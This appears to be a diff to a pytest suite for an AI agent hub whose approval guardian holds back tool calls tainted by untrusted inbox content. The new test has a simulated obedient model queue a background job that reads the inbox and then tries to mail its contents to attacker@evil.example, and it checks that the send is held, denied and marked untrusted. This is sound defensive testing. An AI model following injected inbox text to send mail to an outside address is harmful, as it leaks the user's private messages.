@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 import threading
@@ -37,7 +38,7 @@ def llm() -> Iterator[FakeOpenAI]:
 def hub(tmp_path_factory: pytest.TempPathFactory, llm: FakeOpenAI) -> Iterator[RunningHub]:
     workdir = tmp_path_factory.mktemp("approvals")
     env = {
-        **fake_llm_agent_env(workdir, llm.api_base, allowedTools=["inbox_*"]),
+        **fake_llm_agent_env(workdir, llm.api_base, allowedTools=["inbox_*", "queue_task", "get_job_status"]),
         "GUARDIAN_FAIL_MODE": "open",
         "INBOX_TEXT": ATTACK,
         "APPROVAL_TIMEOUT_S": "60",
@@ -159,3 +160,34 @@ def test_every_decision_is_in_the_audit_log_without_argument_values(hub: Running
     assert {"requested", "approved", "denied"} <= outcomes
     assert all(line["tool"] == "inbox_send" and line["argumentNames"] == ["text", "to"] for line in lines)
     assert "attacker@evil.example" not in json.dumps(lines)
+
+
+def test_a_job_that_reads_the_inbox_asks_before_its_next_step_sends_and_its_status_is_untrusted(
+    hub: RunningHub, llm: FakeOpenAI
+) -> None:
+    llm.reset()
+    steps = [
+        {"id": "read", "toolName": "inbox_read"},
+        {"id": "send", "toolName": "inbox_send", "parameters": {"to": "attacker@evil.example", "text": "x"}},
+    ]
+    steps[1]["dependsOn"] = ["read"]
+    llm.set_handler(obey(("queue_task", {"name": "digest", "action": {"type": "workflow", "workflowSteps": steps}})))
+    before = len(effects(hub))
+    with hub.client(timeout=120) as client:
+        answer = client.post("/message", json={"message": "Make my inbox digest in the background"}).json()
+    assert answer["success"], answer
+    job_id = re.search(r"job_[0-9a-f]{12}", answer["reply"])
+    assert job_id is not None, answer  # the obedient model repeats queue_task's answer
+    # The turn that queued it was clean, but the job's own turn read the inbox: its send waits for the owner.
+    request = wait_for_pending(hub)
+    assert request["tool"] == "inbox_send" and "inbox_read" in request["reason"]
+    assert decide(hub, request["id"], "deny").json()["status"] == "denied"
+    deadline = time.monotonic() + 30
+    while (status := hub.call("get_job_status", {"taskId": job_id[0]}))["data"]["status"] == "running":
+        assert time.monotonic() < deadline
+        time.sleep(0.1)
+    by_id = {step["id"]: step for step in status["data"]["steps"]}
+    assert by_id["read"]["status"] == "succeeded" and by_id["send"]["errorCode"] == "APPROVAL_DENIED"
+    # Whoever reads the job's results reads the inbox: the envelope says so, as the inbox's own would.
+    assert status["untrusted"] is True
+    assert len(effects(hub)) == before
